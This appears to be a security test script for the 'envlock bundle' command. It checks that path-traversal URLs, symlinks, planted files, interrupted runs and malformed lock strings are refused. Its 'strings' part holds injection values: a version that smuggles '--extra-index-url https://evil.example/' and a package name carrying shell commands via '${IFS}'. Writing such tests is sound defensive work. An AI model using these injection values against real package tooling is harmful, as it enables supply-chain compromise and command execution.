#!/usr/bin/env python3
"""bundle_hostile.py ENVLOCK — `envlock bundle` given a hostile lock or a
hostile DIR (issue 19): nothing is written outside DIR, nothing it did not
write is signed, and an incomplete lock is no bundle. The demo scenario is
built, served by nginx and resolved as in bundle_e2e.py; then:
  escape      an apt input URL of the lock climbs out with `..` (the server
              answers the normalised URL): DL_ENV_SPEC_INVALID naming the
              lock line, nothing written outside DIR
  verify      SHA256SUMS a FIFO, a directory, a symlink, over 64 MiB:
              DL_ENV_POLICY_DENIED (not_a_file / too_large), not IO_ERROR,
              and a FIFO does not block
  planted     a page planted in DIR before a --sign run: DL_ENV_POLICY_DENIED
              (not_written) naming it, nothing signed; removed, the rerun
              signs and verifies
  symlink     a directory symlink planted in DIR (DIR/npm -> elsewhere):
              DL_ENV_POLICY_DENIED (not_a_directory), nothing written
              through it
  incomplete  the lock without its npm or apt inputs (or `inputs: []`):
              `bundle` fails (DL_ENV_SPEC_INVALID, incomplete_lock) naming a
              package of that ecosystem, before writing anything
  concurrent  a bundle run holds DIR: a second one at the same time fails
              fast (DL_ENV_QUOTA_EXCEEDED, reason bundle_busy); the first
              one's SHA256SUMS verifies
  killed      temp files of a killed writer (*.tmp-PID-N) are removed by
              the next run and never signed
  strings     lock strings outside their grammar (a version carrying a
              newline and an index option, a deb name carrying shell): the
              lock is refused naming the field (DL_ENV_SPEC_INVALID,
              invalid_lock) before DIR is made
  interrupt   runs stopped by SIGINT or SIGTERM at different moments leave
              no temp file in DIR, and the next run completes and verifies
Parts may be named after ENVLOCK to run only those. Exit 77 without nginx."""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, "tests", "fixtures"))
sys.path.insert(0, HERE)
import bundle_site  # noqa: E402
import servers  # noqa: E402
from bundle_e2e import DEMO, FAILURES, bundle, check, env, mirrors_for, run  # noqa: E402


def err_of(r):
    try:
        return json.loads(r.stdout)
    except ValueError:
        return {}


def keys(work):
    key = os.path.join(work, "k.pem")
    if not os.path.exists(key):
        subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", key], check=True,
                       capture_output=True)
    return key


def part_escape(el, work, lock_text, mirror, cache, mirrors):
    """An apt input `.../20260914T150000Z/dists/../../../esc/dists/bookworm/InRelease`:
    curl asks the server for /esc/dists/bookworm/InRelease, which it serves;
    DIR/apt/dists/../../../esc is WORK/esc."""
    good = "20260914T150000Z/dists/bookworm/InRelease"
    bad = "20260914T150000Z/dists/../../../esc/dists/bookworm/InRelease"
    lines = lock_text.split("\n")
    at = next(i for i, t in enumerate(lines) if good in t) - 1  # the entry's first line
    entry = lines[at:at + 4]  # ecosystem, url, identity, modified
    # the climbing input added before the lock's own (it sorts first), so
    # every package still has its index among the inputs
    lines[at:at] = [t.replace(good, bad) for t in entry]
    line = at + 1
    lock = os.path.join(work, "escape.lock")
    open(lock, "w").write("\n".join(lines))
    shutil.copytree(os.path.join(mirror, "apt", "dists"), os.path.join(mirror, "esc", "dists"),
                    dirs_exist_ok=True)
    out = os.path.join(work, "escape", "out")
    r, _ = bundle(el, lock, out, cache, mirrors)
    e = err_of(r)
    check(r.returncode == 10 and e.get("code") == "DL_ENV_SPEC_INVALID" and
          e.get("detail", {}).get("line") == line and "line %d" % line in e.get("message", ""),
          "escape: DL_ENV_SPEC_INVALID naming lock line %d: %d %s" % (line, r.returncode,
                                                                    r.stdout + r.stderr))
    outside = [os.path.join(dp, f) for dp, _, fs in os.walk(os.path.join(work, "escape"))
               for f in fs if not os.path.join(dp, f).startswith(out + os.sep)]
    check(not outside and not os.path.exists(os.path.join(work, "esc")),
          "escape: nothing written outside DIR: %s" % outside)


def part_verify(el, work):
    key = keys(work)
    for what, make in (("a FIFO", lambda p: os.mkfifo(p)),
                       ("a directory", lambda p: os.mkdir(p)),
                       ("a symlink", lambda p: os.symlink("/etc/hostname", p)),
                       ("over 64 MiB", lambda p: open(p, "wb").truncate((64 << 20) + 1))):
        d = tempfile.mkdtemp(dir=work, prefix="verify-")
        make(os.path.join(d, "SHA256SUMS"))
        open(os.path.join(d, "SHA256SUMS.sig"), "wb").write(b"x" * 64)
        t = time.time()
        try:
            r = subprocess.run([el, "--json", "bundle", "--verify", key, d], env=env(),
                               capture_output=True, text=True, timeout=20)
        except subprocess.TimeoutExpired:
            check(False, "verify: SHA256SUMS %s: blocked" % what)
            continue
        e = err_of(r)
        want = "too_large" if what.startswith("over") else "not_a_file"
        check(r.returncode == 18 and e.get("detail", {}).get("reason") == want and
              e.get("detail", {}).get("file") == "SHA256SUMS" and time.time() - t < 10,
              "verify: SHA256SUMS %s: POLICY_DENIED %s: %d %s" % (what, want, r.returncode,
                                                                  r.stdout))


def signed_files(out):
    return [l.split("  ", 1)[1] for l in open(os.path.join(out, "SHA256SUMS")).read().splitlines()]


def part_planted(el, work, lock, cache, mirrors):
    key = keys(work)
    out = os.path.join(work, "planted")
    os.makedirs(os.path.join(out, "pypi", "simple", "evil"))
    open(os.path.join(out, "pypi", "simple", "evil", "index.html"), "w").write("<a href=x>x</a>")
    planted = "pypi/simple/evil/index.html"
    r = run(el, ["--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out,
                                                             "--sign", key])
    e = err_of(r)
    check(r.returncode == 18 and e.get("detail", {}).get("reason") == "not_written" and
          e.get("detail", {}).get("file") == planted and
          not os.path.exists(os.path.join(out, "SHA256SUMS")),
          "planted: --sign refuses to vouch for a page it did not write: %d %s"
          % (r.returncode, r.stdout[-400:]))
    shutil.rmtree(os.path.join(out, "pypi", "simple", "evil"))
    r = run(el, ["--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out,
                                                             "--sign", key])
    listed = signed_files(out) if r.returncode == 0 else []
    v = run(el, ["--json", "bundle", "--verify", key, out])
    check(r.returncode == 0 and listed and planted not in listed and v.returncode == 0,
          "planted: removed, the bundle is signed and verifies: %d %d %s" % (r.returncode,
                                                                            v.returncode,
                                                                            r.stdout[-300:]))


def part_symlink(el, work, lock, cache, mirrors):
    """A directory symlink planted where a tree goes: nothing lands outside."""
    out2 = os.path.join(work, "planted2", "out")
    away = os.path.join(work, "planted2", "away")
    os.makedirs(out2)
    os.makedirs(away)
    os.symlink(away, os.path.join(out2, "npm"))
    r = run(el, ["--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out2])
    e = err_of(r)
    check(r.returncode == 18 and e.get("detail", {}).get("reason") == "not_a_directory" and
          e.get("detail", {}).get("file", "").startswith("npm/") and not os.listdir(away),
          "planted: a symlinked DIR/npm is refused, nothing written through it: %d %s %s"
          % (r.returncode, os.listdir(away), r.stdout[-300:]))


def drop_inputs(lock_text, eco):
    """The lock without its inputs of ecosystem eco (None: all of them)."""
    out, skip, in_inputs = [], False, False
    for line in lock_text.split("\n"):
        if line.startswith("inputs:"):
            in_inputs = True
            out.append("inputs: []" if eco is None else line)
            continue
        if in_inputs and line and not line.startswith(("-", " ")):
            in_inputs = False
        if in_inputs:
            if line.startswith("- "):
                skip = eco is None or line == "- ecosystem: %s" % eco
            if skip:
                continue
        out.append(line)
    return "\n".join(out)


def part_incomplete(el, work, lock_text, cache, mirrors):
    for eco in ("npm", "deb", None):
        name = eco or "none"
        lock = os.path.join(work, "incomplete-%s.lock" % name)
        open(lock, "w").write(drop_inputs(lock_text, eco))
        out = os.path.join(work, "incomplete-" + name)
        r, _ = bundle(el, lock, out, cache, mirrors)
        e = err_of(r)
        d = e.get("detail", {})
        check(r.returncode == 10 and d.get("reason") == "incomplete_lock" and d.get("package")
              and ("%s %s " % (eco, d.get("package")) in e.get("message", "") if eco else True)
              and not os.path.exists(os.path.join(out, "README")),
              "incomplete (%s inputs dropped): bundle fails naming a package: %d %s"
              % (name, r.returncode, r.stdout[-300:]))


def part_concurrent(el, work, lock, cache, mirrors):
    key = keys(work)
    out = os.path.join(work, "concurrent")
    os.makedirs(out)
    argv = [el, "--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out,
                                                            "--sign", key]
    ps = [subprocess.Popen(argv, env=env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           text=True) for _ in range(2)]
    res = [(p.wait(300), p.stdout.read()) for p in ps]
    codes = sorted(rc for rc, _ in res)
    busy = [err_of(type("R", (), {"stdout": o})) for rc, o in res if rc != 0]
    check(codes[0] == 0 and (codes[1] == 0 or busy[0].get("detail", {}).get("reason") ==
                             "bundle_busy"),
          "concurrent: one run, the other ran too or was told DIR is busy: %s" % res)
    v = run(el, ["--json", "bundle", "--verify", key, out])
    check(v.returncode == 0, "concurrent: the SHA256SUMS left verifies: %d %s" % (v.returncode,
                                                                                 v.stdout))


def part_killed(el, work, lock, cache, mirrors):
    key = keys(work)
    out = os.path.join(work, "killed")
    r, _ = bundle(el, lock, out, cache, mirrors)
    dead = []
    for rel in ("README.tmp-999999999-0", "npm/ms/index.json.tmp-999999999-3"):
        p = os.path.join(out, rel)
        open(p, "w").write("half")
        dead.append(p)
    r = run(el, ["--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out,
                                                             "--sign", key])
    listed = signed_files(out) if r.returncode == 0 else ["(none)"]
    check(r.returncode == 0 and not any(".tmp-" in f for f in listed) and
          not any(os.path.exists(p) for p in dead),
          "killed: dead writers' temp files removed and not signed: %d %s" % (r.returncode,
                                                                              r.stderr))


def part_strings(el, work, lock_text, cache, mirrors):
    cases = {
        "version": lock_text.replace('name: requests\n  version: "2.32.3"',
                                     'name: requests\n  version: "2.32.3\\n--extra-index-url '
                                     'https://evil.example/"', 1),
        "name": lock_text.replace("name: gdal-bin\n", 'name: "gdal-bin;touch${IFS}/tmp/x;"\n', 1),
    }
    for what, text in cases.items():
        if not check(text != lock_text, "strings: the %s mutation applies" % what):
            continue
        lock = os.path.join(work, "strings-%s.lock" % what)
        open(lock, "w").write(text)
        out = os.path.join(work, "strings-" + what)
        r, _ = bundle(el, lock, out, cache, mirrors)
        d = err_of(r).get("detail", {})
        check(r.returncode == 10 and d.get("reason") == "invalid_lock" and
              d.get("field", "").endswith("." + what) and not os.path.exists(out),
              "strings: a %s outside its grammar is refused before DIR is made: %d %s"
              % (what, r.returncode, r.stdout[-300:]))


def part_interrupt(el, work, lock, cache, mirrors):
    """Each run gets a fresh cache, so it is still downloading when the
    signal comes; the delays spread the signal over the run."""
    import signal
    out = os.path.join(work, "interrupt")
    stopped = 0
    for i, delay in enumerate((0.05, 0.1, 0.2, 0.3, 0.5, 0.8)):
        sig = signal.SIGINT if i % 2 == 0 else signal.SIGTERM
        argv = [el, "--json", "--cache-dir", os.path.join(work, "icache-%d" % i)] + mirrors + \
            ["bundle", lock, "-o", out]
        p = subprocess.Popen(argv, env=env(), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        time.sleep(delay)
        p.send_signal(sig)
        stopped += p.wait(120) != 0
        left = [os.path.join(d, f) for d, _, fs in os.walk(out) for f in fs if ".tmp-" in f]
        check(not left, "interrupt: no temp file left after a %s at %.2f s: %s"
              % (sig.name, delay, left[:3]))
    check(stopped > 0, "interrupt: at least one run was stopped mid-way (%d)" % stopped)
    key = keys(work)
    r = run(el, ["--json", "--cache-dir", cache] + mirrors + ["bundle", lock, "-o", out,
                                                             "--sign", key])
    v = run(el, ["--json", "bundle", "--verify", key, out])
    check(r.returncode == 0 and v.returncode == 0,
          "interrupt: the next run completes and verifies: %d %d %s" % (r.returncode,
                                                                       v.returncode, v.stdout))


def main():
    el = sys.argv[1]
    if not os.access(servers.NGINX, os.X_OK):
        print("nginx not installed")
        return 77
    work = tempfile.mkdtemp(prefix="envlock-bundle-hostile-")
    ng = None
    try:
        mirror, bases = bundle_site.demo_upstream(work)
        ng = servers.Nginx(mirror, work=os.path.join(work, "nginx"))
        os.makedirs(ng.work, exist_ok=True)
        ng.start()
        mirrors = mirrors_for(ng.url)
        cache = os.path.join(work, "cache")
        lock = os.path.join(work, "demo.lock")
        r = run(el, ["--cache-dir", cache] + mirrors + ["resolve", DEMO, "--bases", bases,
                                                        "-o", lock])
        if not check(r.returncode == 0, "resolve the demo: %s" % r.stderr.strip()):
            return 1
        text = open(lock).read()
        parts = sys.argv[2:] or ["escape", "verify", "planted", "symlink", "incomplete",
                                 "concurrent", "killed", "strings", "interrupt"]
        if "escape" in parts:
            part_escape(el, work, text, mirror, cache, mirrors)
        if "verify" in parts:
            part_verify(el, work)
        if "planted" in parts:
            part_planted(el, work, lock, cache, mirrors)
        if "symlink" in parts:
            part_symlink(el, work, lock, cache, mirrors)
        if "incomplete" in parts:
            part_incomplete(el, work, text, cache, mirrors)
        if "concurrent" in parts:
            part_concurrent(el, work, lock, cache, mirrors)
        if "killed" in parts:
            part_killed(el, work, lock, cache, mirrors)
        if "strings" in parts:
            part_strings(el, work, text, cache, mirrors)
        if "interrupt" in parts:
            part_interrupt(el, work, lock, cache, mirrors)
    finally:
        if ng:
            ng.stop()
        shutil.rmtree(work, ignore_errors=True)
    for f in FAILURES:
        print("FAILED: " + f)
    return 1 if FAILURES else 0


if __name__ == "__main__":
    sys.exit(main())
